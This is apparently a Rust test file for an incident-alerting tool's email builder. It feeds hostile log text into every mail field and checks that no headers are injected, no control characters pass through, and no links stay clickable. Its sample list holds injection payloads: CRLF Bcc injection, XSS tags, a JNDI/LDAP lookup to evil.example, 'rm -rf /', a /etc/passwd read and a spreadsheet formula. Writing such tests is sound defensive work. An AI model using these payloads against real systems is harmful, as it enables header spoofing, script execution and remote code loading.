//! Whole mails about hostile logs: whatever text stands in whatever field, the mail has one set of headers, no
//! raw control or bidirectional character, the same tags as any other mail, and nothing that can be clicked; and
//! its builder does not panic.
#![allow(clippy::unwrap_used, clippy::panic, reason = "a failing helper is a failing test")]

#[path = "support/mail.rs"]
mod mail;

use gatewatch::courier::mime;
use gatewatch::escalate::{Escalate, Params, Person, Policy, Recipient, Step};
use gatewatch::schema::book::Book;
use gatewatch::schema::*;
use jiff::tz::TimeZone;
use mail::{Mail, tags};
use proptest::prelude::*;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::{Arc, OnceLock};

/// One after the other what logs were seen to hold, and what mail programs were seen to obey.
const EVIL: &[&str] = &[
    "a\r\nBcc: everyone@example.org\r\n\r\n<script>alert(1)</script>",
    "line\u{2028}two\u{2029}three\u{85}four\u{b}five",
    "\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31m\u{0}\u{7f}",
    "\u{202e}gnp.exe\u{2066}\u{200b}\u{feff}\u{ad}p\u{430}ypal",
    "\"><img src=x onerror=alert(1)><a href='http://evil.example/?q=1'>click</a>",
    "</td></table></div><style>*{display:none}</style><!-- <svg/onload=x>",
    "=?utf-8?B?aHR0cDovL2V2aWwuZXhhbXBsZS8NCkJjYzogeEBleGFtcGxlLm9yZw==?=",
    "=cmd|' /C calc'!A0 +1 -1 @SUM(1)",
    "~!id\n~r /etc/passwd\n.\r\n.\n..\nFrom x@y Mon",
    "--=_gatewatch_1\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n--=_gatewatch_1--",
    "HtTpS://EVIL.example/%0d%0aSet-Cookie hxxp://x http://http://evil.example ht\u{200b}tp://evil.example",
    "javascript:alert(1) data:text/html,<script>x</script> ftp://x.example \\\\evil.example\\share www.evil.example",
    "&lt;script&gt; &#60;b&#62; &amp; &",
    "$(id) `id` ;rm -rf / ${jndi:ldap://evil.example/a} %n%s {{7*7}}",
    "",
    " ",
];

fn person(id: &str) -> (Arc<str>, Person) {
    let addresses = vec![format!("{id}@example.org").into(), format!("{id}@example.net").into()];
    let zone = TimeZone::get("Asia/Manila").unwrap();
    (id.into(), Person { id: id.into(), name: id.into(), addresses, zone })
}

fn room() -> Escalate {
    let step = |after, id: &str| Step { after, notify: vec![Recipient::Person(id.into())] };
    let policy = Policy {
        notify_within: Span::minutes(30),
        acknowledge_within: Some(Span::minutes(15)),
        steps: vec![step(Span::ZERO, "ana"), step(Span::minutes(10), "lead")],
        ..Policy::default()
    };
    Escalate::new(Params {
        persons: BTreeMap::from([person("ana"), person("lead")]),
        policies: BTreeMap::from([("default".into(), policy)]),
        domain: "gatewatch.example.org".into(),
        ..Params::default()
    })
}

fn now() -> Reading {
    let utc = Timestamp::parse_rfc3339("2026-11-23T09:00:00Z").unwrap();
    Reading { utc, boottime: Span::hours(1), boot_id: "b".into() }
}

/// An incident in which every text is hostile, and a row of each kind about it.
fn book(text: &dyn Fn(usize) -> String) -> Book {
    let (mut book, at) = (Book::default(), now().utc);
    book.put_incident(Incident {
        id: "u3jxtj43yefscwluj2rmmlxz7s".into(),
        number: 1,
        title: text(0).into(),
        severity: Severity::High,
        status: IncidentStatus::Open,
        entity: text(1).into(),
        incident_type: Some(text(2).into()),
        policy: "default".into(),
        opened_at: at,
        occurred_at: at,
        read_at: at,
        detected_at: at,
        started: now(),
        next_step: 1,
        round: 0,
        notified_at: None,
        acknowledged_at: Some(at),
        acknowledged_by: Some(text(3).into()),
        ack_via: None,
        resolved_at: Some(at),
        resolution: None,
        findings: 2,
        assignee: None,
        last_event_at: at + Span::seconds(9),
        drill: None,
        merged_into: None,
    });
    book.put_silence(Silence {
        id: "E1".into(),
        kind: SilenceKind::Exception,
        owner: "ana".into(),
        reason: text(4).into(),
        rule: Some(text(5).into()),
        entity: Some(text(6).into()),
        source: Some(text(7).into()),
        network: Some(text(8).into()),
        ticket: Some(text(9).into()),
        starts_at: at,
        ends_at: at + Span::days(30),
        ..Silence::default()
    });
    for (id, kind) in (1..).zip(KINDS) {
        book.put_notification(row(id, kind, text));
    }
    // What the digest tells, and an earlier message of each mailbox, so that there is a thread.
    let mut member = row(100, NotificationKind::Notice, text);
    (member.digest, member.state) = (Some(DIGEST), NotificationState::Sending);
    book.put_notification(member);
    book
}

const KINDS: [NotificationKind; 9] = [
    NotificationKind::Notice,
    NotificationKind::Escalation,
    NotificationKind::Repeat,
    NotificationKind::Acknowledged,
    NotificationKind::Resolved,
    NotificationKind::Digest,
    NotificationKind::Fallback,
    NotificationKind::Test,
    NotificationKind::Reminder,
];
const DIGEST: u64 = 6;

fn row(id: u64, kind: NotificationKind, text: &dyn Fn(usize) -> String) -> Notification {
    let loose =
        matches!(kind, NotificationKind::Digest | NotificationKind::Test | NotificationKind::Reminder);
    Notification {
        id,
        incident: (!loose).then(|| "u3jxtj43yefscwluj2rmmlxz7s".into()),
        step: 0,
        round: 0,
        recipient: "ana".into(),
        address: "ana@example.org".into(),
        kind,
        message_id: format!("<m{id}@gatewatch.example.org>").into(),
        state: if id == 1 { NotificationState::Accepted } else { NotificationState::Sending },
        created_at: now().utc,
        due_at: now().utc,
        accepted_at: None,
        delivery_level: None,
        relay: Some("relay:25".into()),
        relay_reply: Some(text(10).into()),
        attempts: 2,
        may_repeat: true,
        date: None,
        digest: None,
        answered_at: None,
        answered_by: None,
        words: None,
    }
}

fn evidence(text: &dyn Fn(usize) -> String) -> Evidence {
    let at = now().utc;
    let finding = |n: usize| Finding {
        id: format!("f{n}").into(),
        time: at,
        rule: text(11 + n).into(),
        rule_version: text(12).into(),
        title: text(13).into(),
        kind: FindingKind::Threshold,
        severity: Severity::High,
        incident_type: None,
        group: vec![("user".into(), text(14).into()), (text(15).into(), text(16).into())],
        first_event_at: at,
        last_event_at: at,
        observed: 5.0,
        expected: Some(0.25),
        threshold: Some(5.0),
        score: None,
        explanation: text(17).into(),
        advice: Some(text(18).into()),
        evidence: vec![1],
        folded: 3,
        verdict: Verdict::Opened,
        reason: "".into(),
        incident: None,
    };
    let line = |n: usize| EvidenceLine {
        event: n as u64,
        time: at,
        source: text(19).into(),
        user: Some(text(20 + n).into()),
        from: Some(text(21 + n).into()),
        host: Some(text(22 + n).into()),
        raw: text(23 + n).into(),
    };
    let history = |whom| History {
        whom,
        logins: 3,
        failures: 1,
        others: 2,
        together: 1,
        last: Some((at, Some(text(24).into()))),
        since: Some(at),
        whole: false,
    };
    Evidence {
        findings: (0..4).map(finding).collect(),
        lines: (1..=5).map(line).collect(),
        histories: vec![history(Whom::User(text(25).into())), history(Whom::Address(text(26).into()))],
        known_since: Some(at),
    }
}

/// Every mail about an incident whose n-th text is `text(n)`.
fn mails(text: &dyn Fn(usize) -> String) -> Vec<Mail> {
    let (room, book, evidence) = (room(), book(text), evidence(text));
    let write = |id: u64| {
        let letter = room.letter(&book, id, &evidence, &now(), Some("12 AAAA")).unwrap();
        Mail::read(&mime(&letter, "gatewatch@example.org").unwrap())
    };
    (1..=KINDS.len() as u64).map(write).collect()
}

/// The tags that mails about harmless logs have: no log may add one, nor an attribute.
fn usual_tags() -> &'static BTreeSet<String> {
    static USUAL: OnceLock<BTreeSet<String>> = OnceLock::new();
    USUAL.get_or_init(|| {
        let text = |n: usize| format!("harmless {n}");
        mails(&text).into_iter().filter_map(|mail| mail.html).flat_map(|html| tags(&html)).collect()
    })
}

fn check(mail: &Mail, usual: &BTreeSet<String>) {
    mail.check_headers();
    let hostile = |text: &str| text.chars().find(|c| printable::is_hostile(*c) && *c != '\n');
    let subject = mail.header("Subject");
    assert_eq!(hostile(&subject), None, "{subject:?}");
    assert!(subject.starts_with("[gatewatch] ") && subject.chars().count() <= 120, "{subject}");
    assert_eq!(hostile(&mail.text), None, "{}", mail.text);
    assert!(mail.text.lines().count() <= 80, "{}", mail.text);
    let html = mail.html.as_deref().unwrap_or("");
    assert_eq!(hostile(html), None, "{html}");
    for tag in tags(html) {
        assert!(usual.contains(&tag), "a tag of its own: {tag}\n{html}");
    }
    for body in [&mail.text, &mail::words(html), &subject] {
        let low = body.to_lowercase();
        for live in ["http://", "https://", "ftp://", "ldap://", "www.evil.example/"] {
            assert!(!low.contains(live), "{live}: {body}");
        }
    }
    assert!(
        !mail.text.contains("evil.example") && !mail::words(html).contains("evil.example"),
        "{}",
        mail.text
    );
}

#[test]
fn what_logs_were_seen_to_hold_does_nothing_in_any_field() {
    let usual = usual_tags();
    assert!(usual.iter().any(|tag| tag.starts_with("<table ")), "{usual:?}");
    for (at, evil) in EVIL.iter().enumerate() {
        // The same everywhere; then one after the other, so that each field has each text once.
        let same = |_: usize| (*evil).to_owned();
        let shifted = |n: usize| EVIL[(at + n) % EVIL.len()].to_owned();
        let long = |_: usize| evil.repeat(3_000);
        let texts: [&dyn Fn(usize) -> String; 3] = [&same, &shifted, &long];
        for mail in texts.into_iter().flat_map(mails) {
            check(&mail, usual);
        }
    }
}

#[test]
fn what_is_shown_can_still_be_read() {
    let mails = mails(&|_| EVIL[0].to_owned());
    let html = mails[0].html.as_deref().unwrap();
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{html}");
    assert!(
        mails[0].text.contains("a\\r\\nBcc: everyone@example[.]org\\r\\n\\r\\n<script>"),
        "{}",
        mails[0].text
    );
    assert!(mails[0].header("Subject").contains("a\\r\\nBcc:"));
    assert_eq!(mails[1].header("References"), "<m1@gatewatch.example.org>");
}

fn any_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        proptest::sample::select(EVIL).prop_map(str::to_owned),
        any::<String>(),
        "[\\x00-\\x1f<>&\"'=?:/.%@ -]{0,12}",
        "(http|HTTPS|ftp|=\\?utf-8\\?Q)[:/?]{0,3}[a-z.=0-9]{0,12}(\\?=)?",
    ];
    proptest::collection::vec(piece, 0..3).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, cases: 24, ..ProptestConfig::default() })]

    #[test]
    fn no_text_in_any_field_harms_a_mail(texts in proptest::collection::vec(any_text(), 1..9)) {
        let usual = usual_tags();
        for mail in mails(&|n| texts[n % texts.len()].clone()) {
            check(&mail, usual);
        }
    }
}
